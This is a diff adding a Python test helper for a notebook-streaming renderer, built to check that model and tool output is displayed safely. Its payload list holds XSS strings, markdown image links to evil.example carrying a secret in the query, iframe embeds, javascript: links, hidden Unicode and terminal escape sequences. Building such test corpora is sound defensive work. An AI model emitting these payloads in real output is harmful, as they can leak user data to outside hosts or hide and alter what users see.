@@ -1,0 +1,78 @@
+"""Texts that try to be more than text: for everything that shows what a model or a tool said."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+from conftest import ROOT
+
+from nb_stream.model import Cell, CellKind, CellStatus, RunInfo, ToolCall
+
+CORPORA = ROOT.parent / "shared" / "corpora"
+
+OWN = [
+    "</pre></details><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
+    "![x](https://evil.example/p.png?q=secret)",
+    "![x][r]\n\n[r]: https://evil.example/p.png",
+    '[a]: /x "title\n```\n"\n![x](https://evil.example/q.png)\n```\n',
+    "```\n![x](https://evil.example/p.png)",
+    "- item\n  ```\n![x](https://evil.example/p.png)\n```\n",
+    "```mermaid\nflowchart TD\nA@{ img: \"https://evil.example/p.png\" }\n```",
+    "$\\style{background:url(https://evil.example/p.png)}{x}$",
+    "<iframe src=https://evil.example></iframe><object data=https://evil.example></object>",
+    "\u202etxt.exe\u202c \u2066hidden\u2069 \u200bzero\ufeffwidth \U000e0041\U000e0042 tags",
+    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J \x08\x08\x00 \x9b31m",
+    "over\rwritten\r\nlines",
+    "\ud800 lone",
+    "]]> --> */ <!-- <![CDATA[",
+    "javascript:alert(1) [x](javascript:alert(1))",
+]
+
+
+def corpus() -> list[str]:
+    """The payloads of the corpora, and our own."""
+    found = list(OWN)
+    for path in sorted(CORPORA.glob("*.json")):
+        found.extend(_texts(json.loads(path.read_text("utf-8"))))
+    return found
+
+
+def _texts(value: Any) -> list[str]:
+    if isinstance(value, str):
+        return [value] if "<" in value or "](" in value else []
+    if isinstance(value, dict):
+        value = list(value.values())
+    return [text for item in value for text in _texts(item)] if isinstance(value, list) else []
+
+
+def cells_of(text: str, place: int = 0) -> list[Cell]:
+    """Cells that hold a text in every place that a text can be in."""
+    said: dict[str, Any] = {"run": "r1", "agent": text, "path": text, "text": text, "type": text}
+    calls = (ToolCall(text, text, text, text, True),)
+    kinds = [
+        (CellKind.TEXT, {"images": [text, f"data:image/png;base64,{text}", "data:image/svg+xml;base64,PHN2Zz4="]}),
+        (CellKind.THOUGHT, {}),
+        (CellKind.TOOL_CALL, {}),
+        (CellKind.CODE, {"code_blocks": [{"code": text + "!", "language": text}], "output": text}),
+        (CellKind.INPUT, {"answer": text}),
+        (CellKind.ERROR, {"traceback": text}),
+    ]
+    return [
+        Cell(
+            f"c{place + number}",
+            kind=kind,
+            data=data,
+            tool_calls=calls if kind is CellKind.TOOL_CALL else (),
+            status=CellStatus.DONE,
+            **said,
+        )
+        for number, (kind, data) in enumerate(kinds, 1)
+    ]
+
+
+def run_of(text: str) -> RunInfo:
+    """A run whose task and end hold a text."""
+    return RunInfo("r1", text, CellStatus.FAILED, text, 1000.0, 1001.0)
